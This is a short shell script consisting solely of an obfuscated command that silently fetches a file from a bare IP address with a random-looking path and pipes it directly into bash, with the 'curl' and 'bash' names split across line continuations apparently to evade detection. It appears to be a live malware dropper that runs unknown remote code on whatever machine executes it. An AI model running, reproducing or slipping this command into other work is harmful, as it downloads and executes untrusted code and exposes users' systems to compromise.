#!/bin/sh
cu\
rl -s http://91.92.242.30/lamq4uerkruo6ssm \
 | ba\
sh
